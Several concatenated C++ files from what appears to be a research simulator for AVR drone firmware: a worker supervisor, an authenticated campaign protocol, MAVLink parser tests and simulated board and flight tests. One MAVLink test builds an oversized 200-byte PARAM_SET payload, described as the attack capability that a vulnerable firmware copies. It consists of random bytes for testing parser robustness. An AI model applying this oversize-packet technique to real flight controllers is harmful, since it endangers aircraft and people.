Supervisor::~Supervisor() { stop(); }

void Supervisor::start() {
  MAVR_REQUIRE(!started_, "supervisor already started");
  started_ = true;
  {
    // Initial pool before the thread runs: callers can rely on
    // min_workers (or max, with no depth signal) existing on return.
    const std::lock_guard<std::mutex> lock(mu_);
    const std::size_t initial =
        queue_depth_ ? config_.min_workers : config_.max_workers;
    const auto now = Clock::now();
    for (std::size_t i = 0; i < initial; ++i) spawn_into(&slots_[i], now);
  }
  thread_ = std::thread(&Supervisor::run, this);
}

void Supervisor::stop() {
  stopping_.store(true);
  if (thread_.joinable()) thread_.join();
  const std::lock_guard<std::mutex> lock(mu_);
  for (Slot& s : slots_) {
    if (s.handle) s.handle->terminate();
  }
  const auto deadline =
      Clock::now() + std::chrono::milliseconds(config_.stop_grace_ms);
  for (Slot& s : slots_) {
    if (!s.handle) continue;
    while (s.handle->alive() && Clock::now() < deadline) {
      std::this_thread::sleep_for(std::chrono::milliseconds(5));
    }
    if (s.handle->alive()) s.handle->kill_now();
    while (s.handle->alive()) {
      std::this_thread::sleep_for(std::chrono::milliseconds(5));
    }
    s.handle.reset();
  }
}

SupervisorStats Supervisor::stats() {
  const std::lock_guard<std::mutex> lock(mu_);
  SupervisorStats out = stats_;
  out.live = live_locked();
  return out;
}

std::size_t Supervisor::live_locked() const {
  std::size_t n = 0;
  for (const Slot& s : slots_) n += s.handle != nullptr ? 1 : 0;
  return n;
}

void Supervisor::run() {
  while (!stopping_.load()) {
    tick();
    std::this_thread::sleep_for(std::chrono::milliseconds(config_.tick_ms));
  }
}

void Supervisor::pump_heartbeats(Slot* slot) {
  support::Socket* ctl = slot->handle->control();
  if (ctl == nullptr || !ctl->valid()) return;
  Message msg;
  // Zero timeout = non-blocking drain of whatever pings queued up since
  // the last tick. Control frames are tiny, so a started frame is whole.
  while (recv_message(*ctl, &msg, 0) == support::IoStatus::kOk) {
    if (msg.type != MsgType::kPing) continue;  // tolerate, don't kill
    slot->last_heard = Clock::now();
    send_message(*ctl, MsgType::kPong, msg.body);
  }
}

void Supervisor::on_death(Slot* slot, Clock::time_point now) {
  slot->handle.reset();
  if (slot->retiring) {
    // Scale-down, not a crash: no backoff, no crash history.
    slot->retiring = false;
    ++stats_.retired;
    return;
  }
  slot->respawn_is_restart = true;
  slot->deaths.push_back(now);
  const auto window = std::chrono::milliseconds(config_.crash_loop_window_ms);
  while (!slot->deaths.empty() && now - slot->deaths.front() > window) {
    slot->deaths.pop_front();
  }
  if (static_cast<int>(slot->deaths.size()) >= config_.crash_loop_failures) {
    // Crash loop: bench the slot. History resets so the post-quarantine
    // worker gets a clean window (its backoff ladder resets only on a
    // successful run surviving a full window — see spawn_into).
    slot->quarantined_until =
        now + std::chrono::milliseconds(config_.quarantine_ms);
    slot->deaths.clear();
    ++stats_.quarantines;
    return;
  }
  slot->next_restart =
      now + std::chrono::milliseconds(slot->backoff->next_delay_ms());
}

void Supervisor::spawn_into(Slot* slot, Clock::time_point now) {
  slot->handle = factory_(next_seq_++);
  if (!slot->handle) {
    // Spawn itself failed (fork exhaustion, ...): retry on the ladder.
    slot->next_restart =
        now + std::chrono::milliseconds(slot->backoff->next_delay_ms());
    return;
  }
  slot->last_heard = now;
  slot->retiring = false;
  ++stats_.spawned;
  if (slot->respawn_is_restart) {
    ++stats_.restarts;
    slot->respawn_is_restart = false;
  }
}

void Supervisor::tick() {
  const std::lock_guard<std::mutex> lock(mu_);
  auto now = Clock::now();

  // 1. Liveness: pump heartbeats, reap deaths, kill wedges.
  for (Slot& s : slots_) {
    if (!s.handle) continue;
    pump_heartbeats(&s);
    if (!s.handle->alive()) {
      on_death(&s, now);
      continue;
    }
    if (config_.heartbeat_timeout_ms > 0 && s.handle->control() != nullptr &&
        now - s.last_heard >
            std::chrono::milliseconds(config_.heartbeat_timeout_ms)) {
      // Running but silent: wedged (deadlocked, livelocked, or its
      // heartbeat thread died). The process is unrecoverable in-band —
      // replace it. Its held chunks reclaim via the coordinator.
      s.handle->kill_now();
      ++stats_.wedge_kills;
      on_death(&s, now);
    }
  }

  // 2. Sizing signal.
  std::size_t target = config_.max_workers;
  if (queue_depth_) {
    const std::uint64_t depth = queue_depth_();
    target = static_cast<std::size_t>(
        std::clamp<std::uint64_t>(depth, config_.min_workers,
                                  config_.max_workers));
    idle_ticks_ = depth == 0 ? idle_ticks_ + 1 : 0;
  }

  // 3. Scale down: one retirement per sustained idle window, politely,
  //    never below min. A worker above `target` that *crashes* while the
  //    pool drains is simply not respawned (step 4 stops at target).
  if (idle_ticks_ >= config_.idle_ticks_before_retire &&
      live_locked() > config_.min_workers) {
    for (std::size_t i = slots_.size(); i-- > 0;) {
      if (slots_[i].handle && !slots_[i].retiring) {
        slots_[i].retiring = true;
        slots_[i].handle->terminate();
        break;
      }
    }
    idle_ticks_ = 0;
  }

  // 4. Scale up / respawn, respecting per-slot backoff and quarantine.
  //    Slots fill lowest-first so crash history sticks to an identity.
  now = Clock::now();
  std::size_t running = live_locked();
  for (std::size_t i = 0; i < slots_.size() && running < target; ++i) {
    Slot& s = slots_[i];
    if (s.handle || now < s.quarantined_until || now < s.next_restart) {
      continue;
    }
    spawn_into(&s, now);
    ++running;
  }
}

void heartbeat_client(support::Socket& control, int interval_ms,
                      const std::atomic<bool>& stop, int missed_limit) {
  using Clock = std::chrono::steady_clock;
  std::uint64_t seq = 0;
  int missed = 0;
  while (!stop.load(std::memory_order_relaxed)) {
    if (!send_message(control, MsgType::kPing, encode_u64_body(seq))) {
      return;  // channel broken: supervisor is gone
    }
    ++seq;
    // Wait out the interval collecting replies. Pong sequence numbers are
    // not matched — any pong proves the supervisor is alive, which is all
    // the worker needs (the supervisor likewise only needs any ping).
    bool heard = false;
    const auto deadline =
        Clock::now() + std::chrono::milliseconds(interval_ms);
    while (Clock::now() < deadline && !stop.load(std::memory_order_relaxed)) {
      Message msg;
      const auto left = std::chrono::duration_cast<std::chrono::milliseconds>(
          deadline - Clock::now());
      const int slice = static_cast<int>(
          std::clamp<std::int64_t>(left.count(), 1, 100));
      const support::IoStatus st = recv_message(control, &msg, slice);
      if (st == support::IoStatus::kClosed) return;  // supervisor is gone
      if (st == support::IoStatus::kOk && msg.type == MsgType::kPong) {
        heard = true;
      }
    }
    missed = heard ? 0 : missed + 1;
    if (missed >= missed_limit) return;  // supervisor silent too long
  }
}

}  // namespace mavr::campaignd
