#include "campaignd/protocol.hpp"

#include <algorithm>
#include <chrono>
#include <cstring>
#include <random>

#include "support/crc.hpp"
#include "support/error.hpp"

namespace mavr::campaignd {

namespace {

namespace wire = campaign::wire;

/// Payload read deadline once a header has arrived: generous (the peer
/// already committed to a frame) but bounded, so a stalled peer cannot
/// pin a handler thread forever.
constexpr int kPayloadTimeoutMs = 10'000;

}  // namespace

bool send_message(support::Socket& sock, MsgType type,
                  std::span<const std::uint8_t> body) {
  support::Bytes payload;
  payload.reserve(body.size() + 2);
  payload.push_back(wire::kWireVersion);
  payload.push_back(static_cast<std::uint8_t>(type));
  payload.insert(payload.end(), body.begin(), body.end());
  if (payload.size() > kMaxFrameBytes) return false;

  support::Bytes frame;
  support::ByteWriter w(frame);
  w.u32_le(static_cast<std::uint32_t>(payload.size()));
  w.u32_le(support::crc32_ieee(payload));
  w.bytes(payload);
  return sock.send_all(frame);
}

support::IoStatus recv_message(support::Socket& sock, Message* out,
                               int timeout_ms) {
  std::uint8_t header[8];
  const support::IoStatus hs = sock.recv_exact(header, sizeof header,
                                               timeout_ms);
  if (hs != support::IoStatus::kOk) return hs;
  support::ByteReader hr(header);
  const std::uint32_t length = hr.u32_le();
  const std::uint32_t crc = hr.u32_le();
  if (length < 2 || length > kMaxFrameBytes) return support::IoStatus::kClosed;

  support::Bytes payload(length);
  if (sock.recv_exact(payload.data(), length, kPayloadTimeoutMs) !=
      support::IoStatus::kOk) {
    return support::IoStatus::kClosed;
  }
  if (support::crc32_ieee(payload) != crc) return support::IoStatus::kClosed;
  if (payload[0] != wire::kWireVersion) return support::IoStatus::kClosed;
  const std::uint8_t type = payload[1];
  if (type < static_cast<std::uint8_t>(MsgType::kWorkRequest) ||
      type > static_cast<std::uint8_t>(MsgType::kPong)) {
    return support::IoStatus::kClosed;
  }
  out->type = static_cast<MsgType>(type);
  out->body.assign(payload.begin() + 2, payload.end());
  return support::IoStatus::kOk;
}

support::Bytes encode_assign(const AssignBody& body) {
  support::Bytes out;
  support::ByteWriter w(out);
  wire::put_u64(w, body.campaign_id);
  wire::encode_config(w, body.config);
  w.u32_le(static_cast<std::uint32_t>(body.chunks.size()));
  for (std::uint64_t c : body.chunks) wire::put_u64(w, c);
  return out;
}

AssignBody decode_assign(const support::Bytes& body) {
  support::ByteReader r(body);
  AssignBody out;
  out.campaign_id = wire::get_u64(r);
  out.config = wire::decode_config(r);
  const std::uint32_t count = r.u32_le();
  if (count > campaign::num_chunks(out.config.trials)) {
    throw support::DataError("assign: more chunks than the campaign has");
  }
  out.chunks.reserve(count);
  for (std::uint32_t i = 0; i < count; ++i) {
    out.chunks.push_back(wire::get_u64(r));
  }
  MAVR_REQUIRE(r.done(), "assign: trailing bytes");
  return out;
}

support::Bytes encode_chunk_result(const ChunkResultBody& body) {
  support::Bytes out;
  support::ByteWriter w(out);
  wire::put_u64(w, body.campaign_id);
  wire::encode_chunk_result(w, body.result);
  return out;
}

ChunkResultBody decode_chunk_result(const support::Bytes& body) {
  support::ByteReader r(body);
  ChunkResultBody out;
  out.campaign_id = wire::get_u64(r);
  out.result = wire::decode_chunk_result(r);
  MAVR_REQUIRE(r.done(), "chunk result: trailing bytes");
  return out;
}

const char* campaign_state_name(CampaignState state) {
  switch (state) {
    case CampaignState::kQueued: return "queued";
    case CampaignState::kRunning: return "running";
    case CampaignState::kDone: return "done";
  }
  return "?";
}

support::Bytes encode_status(const StatusBody& body) {
  support::Bytes out;
  support::ByteWriter w(out);
  w.u8(static_cast<std::uint8_t>(body.state));
  wire::put_u64(w, body.chunks_done);
  wire::put_u64(w, body.chunks_total);
  wire::put_u64(w, body.trials_done);
  wire::put_u64(w, body.trials_total);
  wire::put_u64(w, body.queue_position);
  wire::encode_stats(w, body.stats);
  return out;
}

StatusBody decode_status(const support::Bytes& body) {
  support::ByteReader r(body);
  StatusBody out;
  const std::uint8_t state = r.u8();
  if (state > static_cast<std::uint8_t>(CampaignState::kDone)) {
    throw support::DataError("status: unknown campaign state");
  }
  out.state = static_cast<CampaignState>(state);
  out.chunks_done = wire::get_u64(r);
  out.chunks_total = wire::get_u64(r);
  out.trials_done = wire::get_u64(r);
  out.trials_total = wire::get_u64(r);
  out.queue_position = wire::get_u64(r);
  out.stats = wire::decode_stats(r);
  MAVR_REQUIRE(r.done(), "status: trailing bytes");
  return out;
}

support::Bytes encode_u64_body(std::uint64_t value) {
  support::Bytes out;
  support::ByteWriter w(out);
  wire::put_u64(w, value);
  return out;
}

std::uint64_t decode_u64_body(const support::Bytes& body) {
  support::ByteReader r(body);
  const std::uint64_t value = wire::get_u64(r);
  MAVR_REQUIRE(r.done(), "u64 body: trailing bytes");
  return value;
}

support::Bytes encode_u32_body(std::uint32_t value) {
  support::Bytes out;
  support::ByteWriter w(out);
  w.u32_le(value);
  return out;
}

std::uint32_t decode_u32_body(const support::Bytes& body) {
  support::ByteReader r(body);
  const std::uint32_t value = r.u32_le();
  MAVR_REQUIRE(r.done(), "u32 body: trailing bytes");
  return value;
}

support::Bytes encode_string_body(const std::string& text) {
  return support::Bytes(text.begin(), text.end());
}

std::string decode_string_body(const support::Bytes& body) {
  return std::string(body.begin(), body.end());
}

support::Bytes encode_submit(const campaign::CampaignConfig& config) {
  support::Bytes out;
  support::ByteWriter w(out);
  wire::encode_config(w, config);
  return out;
}

campaign::CampaignConfig decode_submit(const support::Bytes& body) {
  support::ByteReader r(body);
  const campaign::CampaignConfig config = wire::decode_config(r);
  MAVR_REQUIRE(r.done(), "submit: trailing bytes");
  return config;
}

support::Bytes encode_hello(const HelloBody& body) {
  support::Bytes out;
  support::ByteWriter w(out);
  w.u8(body.protocol_version);
  wire::put_u64(w, body.peer_nonce);
  return out;
}

HelloBody decode_hello(const support::Bytes& body) {
  support::ByteReader r(body);
  HelloBody out;
  out.protocol_version = r.u8();
  out.peer_nonce = wire::get_u64(r);
  MAVR_REQUIRE(r.done(), "hello: trailing bytes");
  return out;
}

support::Bytes encode_mac_body(const support::Sha256Digest& mac) {
  return support::Bytes(mac.begin(), mac.end());
}

support::Sha256Digest decode_mac_body(const support::Bytes& body) {
  support::Sha256Digest mac;
  if (body.size() != mac.size()) {
    throw support::DataError("auth mac: wrong length");
  }
  std::copy(body.begin(), body.end(), mac.begin());
  return mac;
}

namespace {

support::Sha256Digest auth_mac(const char* context, const std::string& token,
                               std::uint64_t first_nonce,
                               std::uint64_t second_nonce) {
  support::Bytes msg;
  support::ByteWriter w(msg);
  w.bytes(std::span<const std::uint8_t>(
      reinterpret_cast<const std::uint8_t*>(context), std::strlen(context)));
  wire::put_u64(w, first_nonce);
  wire::put_u64(w, second_nonce);
  return support::hmac_sha256(
      std::span<const std::uint8_t>(
          reinterpret_cast<const std::uint8_t*>(token.data()), token.size()),
      msg);
}

}  // namespace

support::Sha256Digest auth_mac_peer(const std::string& token,
                                    std::uint64_t server_nonce,
                                    std::uint64_t peer_nonce) {
  return auth_mac("mavr-campaignd/peer/v2", token, server_nonce, peer_nonce);
}

support::Sha256Digest auth_mac_coordinator(const std::string& token,
                                           std::uint64_t server_nonce,
                                           std::uint64_t peer_nonce) {
  return auth_mac("mavr-campaignd/coord/v2", token, peer_nonce, server_nonce);
}

std::uint64_t fresh_nonce() {
  // random_device twice: one call may be only 32 bits of entropy.
  std::random_device rd;
  std::uint64_t hi = rd();
  std::uint64_t lo = rd();
  return (hi << 32) ^ lo ^
         static_cast<std::uint64_t>(
             std::chrono::steady_clock::now().time_since_epoch().count());
}

HandshakeResult client_handshake(support::Socket& sock,
                                 const std::string& token, int timeout_ms,
                                 std::string* reject_reason) {
  HelloBody hello;
  hello.peer_nonce = fresh_nonce();
  if (!send_message(sock, MsgType::kHello, encode_hello(hello))) {
    return HandshakeResult::kTransport;
  }
  Message msg;
  if (recv_message(sock, &msg, timeout_ms) != support::IoStatus::kOk) {
    return HandshakeResult::kTransport;
  }
  try {
    if (msg.type == MsgType::kReject) {
      if (reject_reason != nullptr) {
        *reject_reason = decode_string_body(msg.body);
      }
      return HandshakeResult::kRejected;
    }
    if (msg.type != MsgType::kChallenge) return HandshakeResult::kTransport;
    const std::uint64_t server_nonce = decode_u64_body(msg.body);
    const support::Sha256Digest mac =
        auth_mac_peer(token, server_nonce, hello.peer_nonce);
    if (!send_message(sock, MsgType::kAuth, encode_mac_body(mac))) {
      return HandshakeResult::kTransport;
    }
    if (recv_message(sock, &msg, timeout_ms) != support::IoStatus::kOk) {
      return HandshakeResult::kTransport;
    }
    if (msg.type == MsgType::kReject) {
      if (reject_reason != nullptr) {
        *reject_reason = decode_string_body(msg.body);
      }
      return HandshakeResult::kRejected;
    }
    if (msg.type != MsgType::kHelloOk) return HandshakeResult::kTransport;
    // Mutual: the coordinator must prove the token over *our* nonce, or a
    // rogue listener could hand this worker garbage assignments.
    const support::Sha256Digest expected =
        auth_mac_coordinator(token, server_nonce, hello.peer_nonce);
    if (!support::digest_equal(decode_mac_body(msg.body), expected)) {
      if (reject_reason != nullptr) {
        *reject_reason = "coordinator failed token proof";
      }
      return HandshakeResult::kRejected;
    }
  } catch (const support::Error&) {
    return HandshakeResult::kTransport;  // malformed reply body
  }
  return HandshakeResult::kOk;
}

}  // namespace mavr::campaignd
