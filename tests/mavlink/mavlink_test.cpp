// MAVLink protocol tests: Fig. 2 framing, typed message round trips,
// streaming parser robustness, and the attacker-relevant oversize path.
#include <gtest/gtest.h>

#include "mavlink/mavlink.hpp"
#include "support/rng.hpp"

namespace mavr::mavlink {
namespace {

TEST(Packet, Fig2Layout) {
  Heartbeat hb;
  const Packet p = hb.to_packet(7, 3);
  const support::Bytes bytes = encode(p);
  EXPECT_EQ(bytes[0], kMagic);
  EXPECT_EQ(bytes[1], 9);  // heartbeat payload
  EXPECT_EQ(bytes[2], 7);  // sysid
  EXPECT_EQ(bytes[3], 3);  // seq
  EXPECT_EQ(bytes[4], 1);  // compid
  EXPECT_EQ(bytes[5], 0);  // msgid HEARTBEAT
  EXPECT_EQ(bytes.size(), 17u);  // the paper's minimum packet
}

TEST(Packet, ChecksumCoversHeaderAndPayload) {
  Heartbeat hb;
  const Packet p = hb.to_packet(1, 0);
  support::Bytes bytes = encode(p);
  const std::uint16_t crc = packet_crc(p);
  EXPECT_EQ(bytes[bytes.size() - 2], crc & 0xFF);
  EXPECT_EQ(bytes[bytes.size() - 1], crc >> 8);
  // Magic is NOT covered: flipping it must not change the CRC value.
  Packet p2 = p;
  p2.seq ^= 1;  // header byte IS covered
  EXPECT_NE(packet_crc(p2), crc);
}

template <typename T>
void round_trip(const T& msg) {
  const Packet p = msg.to_packet(42, 17);
  Parser parser;
  const auto packets = parser.push(encode(p));
  ASSERT_EQ(packets.size(), 1u);
  EXPECT_EQ(packets[0].sysid, 42);
  EXPECT_EQ(packets[0].seq, 17);
  const T back = T::from_packet(packets[0]);
  (void)back;
}

TEST(Messages, HeartbeatRoundTrip) {
  Heartbeat hb;
  hb.custom_mode = 0x11223344;
  hb.system_status = 5;
  const Heartbeat back = Heartbeat::from_packet(hb.to_packet(1, 2));
  EXPECT_EQ(back.custom_mode, 0x11223344u);
  EXPECT_EQ(back.system_status, 5);
  round_trip(hb);
}

TEST(Messages, ParamSetRoundTrip) {
  ParamSet set;
  std::snprintf(set.param_id, sizeof set.param_id, "GYRO_CAL_X");
  set.param_value = -3.5f;
  set.target_system = 9;
  const ParamSet back = ParamSet::from_packet(set.to_packet(1, 2));
  EXPECT_STREQ(back.param_id, "GYRO_CAL_X");
  EXPECT_FLOAT_EQ(back.param_value, -3.5f);
  EXPECT_EQ(back.target_system, 9);
  round_trip(set);
}

TEST(Messages, AttitudeRoundTrip) {
  Attitude att;
  att.time_boot_ms = 123456;
  att.roll = 0.5f;
  att.yawspeed = -1.25f;
  const Attitude back = Attitude::from_packet(att.to_packet(1, 2));
  EXPECT_EQ(back.time_boot_ms, 123456u);
  EXPECT_FLOAT_EQ(back.roll, 0.5f);
  EXPECT_FLOAT_EQ(back.yawspeed, -1.25f);
}

TEST(Messages, RawImuRoundTrip) {
  RawImu imu;
  imu.xgyro = -32000;
  imu.zacc = 1000;
  const RawImu back = RawImu::from_packet(imu.to_packet(1, 2));
  EXPECT_EQ(back.xgyro, -32000);
  EXPECT_EQ(back.zacc, 1000);
}

TEST(Messages, WrongIdRejected) {
  Heartbeat hb;
  EXPECT_THROW(ParamSet::from_packet(hb.to_packet(1, 0)),
               support::PreconditionError);
}

TEST(Parser, ResynchronizesAfterGarbage) {
  Parser parser;
  const support::Bytes junk = {0x00, 0x13, 0x37, 0x42};
  EXPECT_TRUE(parser.push(junk).empty());
  EXPECT_EQ(parser.dropped_bytes(), 4u);
  Heartbeat hb;
  const auto packets = parser.push(encode(hb.to_packet(1, 0)));
  EXPECT_EQ(packets.size(), 1u);
}

TEST(Parser, CrcErrorDropsPacketAndCounts) {
  Heartbeat hb;
  support::Bytes bytes = encode(hb.to_packet(1, 0));
  bytes[7] ^= 0xFF;  // corrupt payload
  Parser parser;
  EXPECT_TRUE(parser.push(bytes).empty());
  EXPECT_EQ(parser.crc_errors(), 1u);
  // Parser recovers for the next good packet.
  EXPECT_EQ(parser.push(encode(hb.to_packet(1, 1))).size(), 1u);
}

TEST(Parser, ByteAtATimeDelivery) {
  Heartbeat hb;
  const support::Bytes bytes = encode(hb.to_packet(1, 0));
  Parser parser;
  for (std::size_t i = 0; i + 1 < bytes.size(); ++i) {
    EXPECT_FALSE(parser.push(bytes[i]).has_value());
  }
  EXPECT_TRUE(parser.push(bytes.back()).has_value());
}

TEST(Parser, BackToBackPacketsInOneBuffer) {
  Heartbeat hb;
  support::Bytes stream;
  for (int i = 0; i < 5; ++i) {
    const support::Bytes one = encode(hb.to_packet(1, static_cast<std::uint8_t>(i)));
    stream.insert(stream.end(), one.begin(), one.end());
  }
  Parser parser;
  const auto packets = parser.push(stream);
  ASSERT_EQ(packets.size(), 5u);
  EXPECT_EQ(packets[4].seq, 4);
}

TEST(Parser, ZeroLengthPayload) {
  Packet p;
  p.msgid = 200;
  Parser parser;
  const auto got = parser.push(encode(p));
  ASSERT_EQ(got.size(), 1u);
  EXPECT_TRUE(got[0].payload.empty());
}

TEST(Parser, MagicByteInsidePayloadIsNotAFrameStart) {
  Packet p;
  p.msgid = 23;
  p.payload = {kMagic, kMagic, 0x00, kMagic};
  Parser parser;
  const auto packets = parser.push(encode(p));
  ASSERT_EQ(packets.size(), 1u);
  EXPECT_EQ(packets[0].payload, p.payload);
}

TEST(Parser, OversizedAttackPayloadParses) {
  // The §IV-B capability: a 200-byte PARAM_SET-framed payload (a benign
  // implementation would reject it; the vulnerable firmware copies it).
  Packet p;
  p.msgid = 23;
  support::Rng rng(1);
  for (int i = 0; i < 200; ++i) {
    p.payload.push_back(static_cast<std::uint8_t>(rng.next()));
  }
  Parser parser;
  const auto packets = parser.push(encode(p));
  ASSERT_EQ(packets.size(), 1u);
  EXPECT_EQ(packets[0].payload.size(), 200u);
}

TEST(Packet, PayloadBeyondLengthFieldRejected) {
  // Regression: encode() used to truncate the length byte (256 -> 0) while
  // still writing all 256 payload bytes, emitting a stream no parser could
  // ever frame. Both serialization entry points must refuse instead.
  Packet p;
  p.msgid = 23;
  p.payload.assign(kMaxPayload + 1, 0xAB);
  EXPECT_THROW(encode(p), support::PreconditionError);
  EXPECT_THROW(packet_crc(p), support::PreconditionError);
}

TEST(Parser, MaxLengthPayloadRoundTrips) {
  // 255 is the largest payload the one-byte length field can carry; it must
  // keep working right up to the limit the previous test enforces.
  Packet p;
  p.msgid = 23;
  support::Rng rng(7);
  for (std::size_t i = 0; i < kMaxPayload; ++i) {
    p.payload.push_back(static_cast<std::uint8_t>(rng.next()));
  }
  Parser parser;
  const auto packets = parser.push(encode(p));
  ASSERT_EQ(packets.size(), 1u);
  EXPECT_EQ(packets[0].payload, p.payload);
}

TEST(Parser, TruncatedFrameEatsIntoNextButRecovers) {
  // A frame cut mid-payload makes the parser consume the next frame's first
  // bytes as the missing payload + CRC. That packet fails its checksum; the
  // parser must resynchronize on the following frame.
  Heartbeat hb;
  const support::Bytes full = encode(hb.to_packet(1, 0));
  support::Bytes stream(full.begin(), full.begin() + 10);  // truncated
  const support::Bytes second = encode(hb.to_packet(1, 1));
  const support::Bytes third = encode(hb.to_packet(1, 2));
  stream.insert(stream.end(), second.begin(), second.end());
  stream.insert(stream.end(), third.begin(), third.end());
  Parser parser;
  const auto packets = parser.push(stream);
  ASSERT_EQ(packets.size(), 1u);
  EXPECT_EQ(packets[0].seq, 2);
  EXPECT_EQ(parser.crc_errors(), 1u);
  EXPECT_GT(parser.dropped_bytes(), 0u);
}

TEST(Parser, InterleavedGarbageBetweenFrames) {
  Heartbeat hb;
  const support::Bytes junk = {0x00, 0x13, 0x37};
  support::Bytes stream;
  for (std::uint8_t seq = 0; seq < 3; ++seq) {
    stream.insert(stream.end(), junk.begin(), junk.end());
    const support::Bytes one = encode(hb.to_packet(1, seq));
    stream.insert(stream.end(), one.begin(), one.end());
  }
  stream.insert(stream.end(), junk.begin(), junk.end());
  Parser parser;
  const auto packets = parser.push(stream);
  ASSERT_EQ(packets.size(), 3u);
  EXPECT_EQ(packets[2].seq, 2);
  EXPECT_EQ(parser.dropped_bytes(), 4 * junk.size());
  EXPECT_EQ(parser.crc_errors(), 0u);
}

TEST(Parser, FuzzedStreamNeverCrashes) {
  support::Rng rng(0xF0221);
  Parser parser;
  for (int i = 0; i < 200'000; ++i) {
    parser.push(static_cast<std::uint8_t>(rng.next()));
  }
  // Statistical smoke: random bytes occasionally frame up, but the parser
  // must never produce a packet with a bad checksum.
  SUCCEED();
}

}  // namespace
}  // namespace mavr::mavlink
