// Board-level hardware model tests: bootloader protocol discipline, the
// readout-protection fuse, flash wear accounting, sensors and the flight
// dynamics model.
#include <gtest/gtest.h>

#include "firmware/generator.hpp"
#include "firmware/profile.hpp"
#include "sim/board.hpp"
#include "sim/flight.hpp"

namespace mavr {
namespace {

const firmware::Firmware& fw() {
  static firmware::Firmware fw = firmware::generate(
      firmware::testapp(false), toolchain::ToolchainOptions::mavr());
  return fw;
}

TEST(Board, BootloaderProtocolDiscipline) {
  sim::Board board;
  // Writes outside the bootloader are refused.
  EXPECT_THROW(board.bootloader_write_page(0, support::Bytes(4)),
               support::PreconditionError);
  EXPECT_THROW(board.bootloader_erase(), support::PreconditionError);
  EXPECT_THROW(board.bootloader_run_application(),
               support::PreconditionError);

  board.bootloader_enter();
  EXPECT_TRUE(board.in_bootloader());
  // Write before erase is refused (flash discipline).
  EXPECT_THROW(board.bootloader_write_page(0, support::Bytes(4)),
               support::PreconditionError);
  board.bootloader_erase();
  board.bootloader_write_page(0, support::Bytes(256, 0x00));
  // Oversized page is refused.
  EXPECT_THROW(board.bootloader_write_page(256, support::Bytes(257)),
               support::PreconditionError);
  board.bootloader_run_application();
  EXPECT_FALSE(board.in_bootloader());
}

TEST(Board, BootloaderPageWriteValidatedUpFront) {
  sim::Board board;
  board.bootloader_enter();
  board.bootloader_erase();
  // Misaligned page address.
  EXPECT_THROW(board.bootloader_write_page(100, support::Bytes(256)),
               support::PreconditionError);
  // Past the end of flash.
  const std::uint32_t flash_bytes = board.cpu().spec().flash_bytes;
  EXPECT_THROW(board.bootloader_write_page(flash_bytes, support::Bytes(16)),
               support::PreconditionError);
  EXPECT_THROW(
      board.bootloader_write_page(flash_bytes - 256, support::Bytes(257)),
      support::PreconditionError);
  // The last valid page is accepted.
  board.bootloader_write_page(flash_bytes - 256, support::Bytes(256, 0xAB));
  EXPECT_EQ(board.bootloader_read_page(flash_bytes - 256, 1)[0], 0xAB);
  board.bootloader_run_application();
}

TEST(Board, BootloaderReadbackDiscipline) {
  sim::Board board;
  // Readback outside the bootloader is refused.
  EXPECT_THROW(board.bootloader_read_page(0, 4), support::PreconditionError);
  board.bootloader_enter();
  board.bootloader_erase();
  board.bootloader_write_page(0, support::Bytes(256, 0x5A));
  EXPECT_EQ(board.bootloader_read_page(0, 256), support::Bytes(256, 0x5A));
  EXPECT_THROW(
      board.bootloader_read_page(board.cpu().spec().flash_bytes - 2, 4),
      support::PreconditionError);
  // Once the fuse is re-armed, readback is blocked again — and a chip
  // erase (which clears the lock bits, as on the real part) re-enables it.
  board.set_readout_protection();
  EXPECT_THROW(board.bootloader_read_page(0, 4), support::PreconditionError);
  board.bootloader_erase();
  EXPECT_EQ(board.bootloader_read_page(0, 1)[0], 0xFF);
  board.bootloader_run_application();
}

TEST(Board, CoreHeldWhileInBootloader) {
  sim::Board board;
  board.flash_image(fw().image.bytes);
  board.bootloader_enter();
  const std::uint64_t retired = board.cpu().instructions_retired();
  board.run_cycles(100'000);
  EXPECT_EQ(board.cpu().instructions_retired(), retired);
  board.bootloader_run_application();
  board.run_cycles(100'000);
  EXPECT_GT(board.cpu().instructions_retired(), retired);
}

TEST(Board, ReadoutFuseBlocksDumpAndDirectFlash) {
  sim::Board board;
  board.flash_image(fw().image.bytes);
  EXPECT_EQ(board.read_flash().size(), 256u * 1024);
  board.set_readout_protection();
  EXPECT_THROW(board.read_flash(), support::PreconditionError);
  // Host flashing path also locked; only the bootloader remains.
  EXPECT_THROW(board.flash_image(fw().image.bytes),
               support::PreconditionError);
  board.bootloader_enter();
  board.bootloader_erase();
  board.bootloader_write_page(0, support::Bytes(256, 0x12));
  board.bootloader_run_application();
}

TEST(Board, FlashWearCounted) {
  sim::Board board;
  EXPECT_EQ(board.flash_write_cycles(), 0u);
  board.flash_image(fw().image.bytes);
  EXPECT_EQ(board.flash_write_cycles(), 1u);
  board.bootloader_enter();
  board.bootloader_erase();
  board.bootloader_run_application();
  EXPECT_EQ(board.flash_write_cycles(), 2u);
}

TEST(Board, SensorsReachTheFirmware) {
  sim::Board board;
  board.flash_image(fw().image.bytes);
  board.set_gyro(0, -12345);
  board.run_cycles(1'000'000);
  const toolchain::DataSymbol* gyro = fw().image.find_data("g_gyro");
  const std::int16_t seen = static_cast<std::int16_t>(
      board.cpu().data().raw(gyro->ram_addr) |
      (board.cpu().data().raw(gyro->ram_addr + 1) << 8));
  EXPECT_EQ(seen, -12345);
}

TEST(Board, TraceHookSeesEveryInstruction) {
  sim::Board board;
  board.flash_image(fw().image.bytes);
  std::uint64_t hook_calls = 0;
  board.set_trace_hook([&](const avr::Cpu&) { ++hook_calls; });
  board.run_cycles(10'000);
  EXPECT_EQ(hook_calls, board.cpu().instructions_retired());
  board.set_trace_hook(nullptr);
  board.run_cycles(10'000);
  EXPECT_GT(board.cpu().instructions_retired(), hook_calls);
}

TEST(Flight, ServoAuthorityDampsRollRate) {
  sim::Board board;
  board.flash_image(fw().image.bytes);
  sim::FlightModel flight(board);
  // Fly 5 simulated seconds with the controller active.
  for (int i = 0; i < 500; ++i) {
    flight.step(0.01);
    board.run_cycles(160'000);
  }
  ASSERT_EQ(board.cpu().state(), avr::CpuState::Running);
  EXPECT_FALSE(flight.state().departed);
  EXPECT_LT(std::abs(flight.state().roll_rate_dps), 20.0);
}

TEST(Flight, UncontrolledAirframeDeparts) {
  sim::Board board;  // no firmware: servos frozen at 0 (full deflection)
  sim::FlightModel flight(board);
  for (int i = 0; i < 2000 && !flight.state().departed; ++i) {
    flight.step(0.01);
  }
  EXPECT_TRUE(flight.state().departed);
}

TEST(Flight, GyroCountsSaturate) {
  sim::Board board;
  sim::FlightModel flight(board);
